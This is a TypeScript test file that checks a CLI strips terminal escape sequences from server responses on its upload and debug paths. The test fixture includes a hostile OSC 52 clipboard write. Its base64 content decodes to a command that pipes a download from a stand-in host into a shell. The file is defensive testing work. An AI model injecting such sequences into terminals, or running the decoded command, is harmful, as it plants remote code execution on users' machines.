import fs from 'node:fs/promises';
import os from 'node:os';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { sessionDoc } from '@svc/test-support/upload';
import { runCli, SVC } from '@svc/test-support/cli';
import { type RecordingServer, startRecordingServer } from './helpers/recording-server.ts';

/**
 * What a portal sends never reaches the terminal as control characters: a
 * real `svc` process against a real local HTTP server whose answers carry an OSC title, an OSC 52
 * clipboard write, cursor movement (7-bit CSI and the 8-bit CSI 0x9b) and a BEL.
 */

const OSC_TITLE = '\u001b]0;pwned\u0007';
const OSC_52 = '\u001b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\u0007';
const CSI = '\u001b[2J\u001b[1;1H\u001b[8m';
const C1_CSI = '\u009b2K';
const HOSTILE = `${OSC_TITLE}${OSC_52}${CSI}${C1_CSI}\u0008\u0007`;
/** ESC, BEL, the C1 CSI and every other control but newline and tab. */
const CONTROL = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f]/;

let portal: RecordingServer;
let dir: string;
let session: string;
const KEY = `svc_biz_${'a'.repeat(32)}`;

beforeAll(async () => {
  portal = await startRecordingServer();
  dir = await fs.mkdtemp(path.join(os.tmpdir(), 'svc-escapes-'));
  session = path.join(dir, 'session_results.json');
  await fs.writeFile(session, JSON.stringify(sessionDoc('session-minimal.json')));
});
afterAll(async () => {
  await portal?.close();
  await fs.rm(dir, { recursive: true, force: true });
});

const upload = (...args: string[]) =>
  runCli(SVC, ['upload', session, '-u', `${portal.base}/api/upload`, '-k', KEY, ...args], { env: {} });

function answerUpload(): void {
  portal.handle((_req, _body, res) => {
    res.writeHead(200, { 'content-type': 'application/json' });
    res.end(
      JSON.stringify({
        success: true,
        session_id: `s1${HOSTILE}`,
        share_token: 'f'.repeat(64),
        share_url: `https://portal.example/share/?token=${'f'.repeat(64)}${HOSTILE}`,
        message: `stored${HOSTILE}`,
      }),
    );
  });
}

describe('svc prints no control characters from the portal', () => {
  it('upload: the share URL and session id are printed without escapes', async () => {
    answerUpload();
    const r = await upload();
    expect(r.code, r.stderr).toBe(0);
    expect(r.stdout).not.toMatch(CONTROL);
    expect(r.stderr).not.toMatch(CONTROL);
    // The sequences go whole (no "]0;pwned" left behind): what is left is the text around them.
    expect(r.stdout).toBe(`Uploaded session s1\nShare URL: https://portal.example/share/?token=${'f'.repeat(64)}\n`);
  });

  it('upload --json: the answer stays valid JSON with every control escaped', async () => {
    answerUpload();
    const r = await upload('--json');
    expect(r.code, r.stderr).toBe(0);
    expect(r.stdout).not.toMatch(CONTROL);
    // Nothing is lost: the escaped JSON reads back as the portal's answer.
    expect(JSON.parse(r.stdout).share_url).toBe(`https://portal.example/share/?token=${'f'.repeat(64)}${HOSTILE}`);
  });

  it("a refusal: the portal's error string reaches stderr without escapes", async () => {
    portal.handle((_req, _body, res) => {
      res.writeHead(403, { 'content-type': 'application/json' });
      res.end(JSON.stringify({ error: `Forbidden${HOSTILE}\nsecond line\r` }));
    });
    const r = await upload();
    expect(r.code).toBe(1);
    expect(r.stdout).toBe('');
    expect(r.stderr).not.toMatch(CONTROL);
    expect(r.stderr).toBe('error: Upload refused: HTTP 403 Forbidden second line\n');
  });

  it('api-debug: a JSON body and a text body are shown without escapes', async () => {
    portal.handle((_req, _body, res) => {
      res.writeHead(200, { 'content-type': 'application/json' });
      res.end(JSON.stringify({ status: `ok${HOSTILE}` }));
    });
    const json = await runCli(SVC, ['api-debug', '-u', portal.base, 'health'], { env: {} });
    expect(json.code, json.stderr).toBe(0);
    expect(json.stdout).not.toMatch(CONTROL);
    expect(JSON.parse(json.stdout)).toEqual({ status: `ok${HOSTILE}` });

    portal.handle((_req, _body, res) => {
      res.writeHead(500, { 'content-type': 'text/plain' });
      res.end(`broken${HOSTILE}\n\tdetail`);
    });
    const text = await runCli(SVC, ['api-debug', '-u', portal.base, 'health'], { env: {} });
    expect(text.code).toBe(1);
    expect(text.stdout).toBe('broken\n\tdetail\n');
    expect(text.stderr).not.toMatch(CONTROL);
    expect(text.stderr).toMatch(/^GET .* -> HTTP 500 in \d+ ms\nerror: HTTP 500: broken detail\n$/);
  });
});
